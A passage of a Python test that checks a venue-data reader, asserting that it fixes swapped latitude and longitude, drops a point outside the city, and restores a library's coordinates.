    _rewrite(raw, LIBRARIES, text)
    q = QualityLog()
    after = rc.read_venues(raw, areas, q)
    log = q.to_frame().set_index("rule")["rows_affected"]
    assert log["swapped longitude/latitude"] == 1 and log["point outside the city"] == 1
    assert len(after) == len(before) - 1
    fixed = after.loc[after["name"] == rows[0]["NAME"] + " Library"].iloc[0]
    assert (round(fixed["lat"], 6), round(fixed["lon"], 6)) == (round(lat, 6), round(lon, 6))
